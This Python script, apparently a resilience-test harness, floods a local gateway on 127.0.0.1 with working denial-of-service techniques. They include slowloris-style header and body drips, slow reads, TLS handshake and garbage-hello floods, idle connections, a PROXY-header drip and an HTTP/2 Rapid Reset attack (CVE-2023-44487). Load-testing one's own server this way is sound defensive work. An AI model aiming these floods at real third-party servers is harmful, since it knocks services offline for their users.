"""Those who flood a gateway, each at a bounded rate: `floods.py KIND PORT`, until it is told to stop.

A program of its own with the lowest priority, from an address of its own (127.0.0.2). What it did is one line of JSON at its end.
"""
import asyncio, dataclasses, json, os, signal, socket, ssl, sys, time
from typing import Callable

SOURCE = "127.0.0.2"
DRIP_SECONDS = 1

# A server that lets a connection stand for so long would let it stand for longer.
LONGEST_SECONDS = 60


@dataclasses.dataclass
class Flood:
    """`rate` connections are begun each second while fewer than `most` are open."""

    title: str
    attack: Callable
    rate: int
    most: int
    port: str = "tls"


class Counts:
    """What came of the connections."""

    def __init__(self):
        self.made = self.refused = self.ended = self.sent = 0


def _context(*protocols):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    return context


PLAIN, HTTP2 = _context(), _context("h2")


def _hello():
    """The bytes of a client's hello that a server takes."""
    sent = ssl.MemoryBIO()
    client = PLAIN.wrap_bio(ssl.MemoryBIO(), sent, server_hostname="localhost")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


HELLO = _hello()


async def _open(port, tls=None, buffer=0):
    plain = socket.socket()
    plain.setblocking(False)
    try:
        if buffer:
            plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        plain.bind((SOURCE, 0))
        await asyncio.get_running_loop().sock_connect(plain, ("127.0.0.1", port))
        more = {"ssl": tls, "server_hostname": "localhost", "limit": 1024} if tls else {}
        return await asyncio.open_connection(sock=plain, **more)
    except BaseException:
        plain.close()
        raise


async def _drip(port, counts, begin, drop, tls=PLAIN):
    """Bytes so seldom that the connection stays in use; until the server has enough of it."""
    reader, writer = await _open(port, tls)
    try:
        writer.write(begin)
        end = asyncio.create_task(reader.read(1))
        while not end.done():
            await asyncio.wait([end], timeout=DRIP_SECONDS)
            writer.write(drop)
            counts.sent += 1
    finally:
        writer.transport.abort()


async def slow_headers(port, counts):
    await _drip(port, counts, b"GET / HTTP/1.1\r\nHost: localhost\r\n", b"X-a: b\r\n")


async def slow_body(port, counts):
    await _drip(port, counts, b"POST /sink HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000\r\n\r\n", b"x")


async def proxy_drip(port, counts):
    await _drip(port, counts, b"PROXY TCP4 192.0.2.1", b"0", tls=None)


async def slow_read(port, counts):
    """Wants 10 MB and takes 100 bytes a second."""
    reader, writer = await _open(port, PLAIN, buffer=4096)
    try:
        writer.write(b"GET /body/10m HTTP/1.1\r\nHost: localhost\r\n\r\n")
        while await reader.read(100):
            counts.sent += 1
            await asyncio.sleep(DRIP_SECONDS)
    finally:
        writer.transport.abort()


async def handshakes(port, counts):
    """Whole handshakes, none resumed, each for nothing."""
    _, writer = await _open(port, PLAIN)
    writer.transport.abort()


async def half_handshakes(port, counts):
    """A hello that makes the server sign, and nothing after it."""
    reader, writer = await _open(port)
    try:
        writer.write(HELLO)
        while await reader.read(65536):
            pass
    finally:
        writer.transport.abort()


async def garbage(port, counts):
    """Records that begin like a hello and are none."""
    reader, writer = await _open(port)
    try:
        writer.write(HELLO[:11] + os.urandom(len(HELLO) - 11))
        while await reader.read(65536):
            pass
    finally:
        writer.transport.abort()


async def silence(port, counts):
    reader, writer = await _open(port)
    try:
        await reader.read(1)
    finally:
        writer.transport.abort()


RESETS_AT_ONCE = 100
RESETS_PER_SECOND = 5_000


def _frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


async def rapid_reset(port, counts):
    """Requests over HTTP/2, each taken back at once (CVE-2023-44487)."""
    reader, writer = await _open(port, HTTP2)
    try:
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
        request = b"\x82\x87\x84\x01\x09localhost"  # GET, https, /, :authority
        stream, begun = 1, time.monotonic()
        end = asyncio.create_task(_drain(reader))
        while not end.done():
            burst = b"".join(_frame(1, 5, n, request) + _frame(3, 0, n, b"\0\0\0\x08") for n in range(stream, stream + 2 * RESETS_AT_ONCE, 2))
            stream += 2 * RESETS_AT_ONCE
            writer.write(burst)
            await writer.drain()
            counts.sent += RESETS_AT_ONCE
            await asyncio.sleep(max(0.001, begun + stream / 2 / RESETS_PER_SECOND - time.monotonic()))
    finally:
        writer.transport.abort()


async def _drain(reader):
    while await reader.read(65536):
        pass


FLOODS = {
    "slow-headers": Flood("500 clients that send a header line a second", slow_headers, 100, 500),
    "slow-body": Flood("500 clients that send a byte of their body a second", slow_body, 100, 500),
    "slow-read": Flood("200 clients that want 10 MB and take 100 bytes a second, 10 more each second", slow_read, 10, 200),
    "handshakes": Flood("200 TLS handshakes a second", handshakes, 200, 200),
    "half-handshakes": Flood("200 TLS handshakes a second that the client never finishes", half_handshakes, 200, 3000),
    "garbage": Flood("500 hellos a second that are none", garbage, 500, 1000),
    "silence": Flood("1,000 connections a second that send nothing, 4,000 at one time", silence, 1000, 4000),
    "rapid-reset": Flood("2 connections with 5,000 requests a second each, taken back at once", rapid_reset, 20, 2),
    "proxy-drip": Flood("500 clients that send a byte of a PROXY header a second", proxy_drip, 200, 500, port="proxy_protocol"),
}


async def _one(flood, port, counts):
    try:
        async with asyncio.timeout(LONGEST_SECONDS):
            await flood.attack(port, counts)
        counts.ended += 1
    except TimeoutError:
        pass
    except (OSError, ssl.SSLError, EOFError):
        counts.refused += 1


async def main(kind, port):
    flood, counts, stop = FLOODS[kind], Counts(), asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    asyncio.get_running_loop().set_exception_handler(lambda *_: None)  # A connection that breaks late concerns nobody.
    running, begun = set(), time.monotonic()
    due = begun
    while not stop.is_set():
        # What could not be begun because too many are open is not made up for.
        due = max(due, time.monotonic() - 0.1)
        while due <= time.monotonic() and len(running) < flood.most:
            task = asyncio.create_task(_one(flood, port, counts))
            running.add(task)
            task.add_done_callback(running.discard)
            counts.made += 1
            due += 1 / flood.rate
        await asyncio.sleep(0.005)
    seconds, most = time.monotonic() - begun, len(running)
    for task in list(running):
        task.cancel()
    await asyncio.gather(*running, return_exceptions=True)
    print(json.dumps({**vars(counts), "seconds": seconds, "open": most}), flush=True)


def _give_way():
    """Behind everything that is measured, also when all was started at a real-time priority because others use the machine."""
    os.nice(19)
    policy = os.sched_getscheduler(0)
    if policy in (os.SCHED_FIFO, os.SCHED_RR):
        os.sched_setscheduler(0, policy, os.sched_param(1))


if __name__ == "__main__":
    _give_way()
    asyncio.run(main(sys.argv[1], int(sys.argv[2])))
